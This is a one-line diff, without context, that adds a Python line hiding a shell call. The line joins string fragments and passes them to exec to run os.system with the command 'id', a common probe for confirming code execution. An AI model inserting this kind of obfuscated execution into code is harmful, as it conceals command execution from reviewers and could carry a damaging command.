@@ -1,0 +1,1 @@
+exec(''.join(['imp','ort o','s;os.sy','stem("id")']))
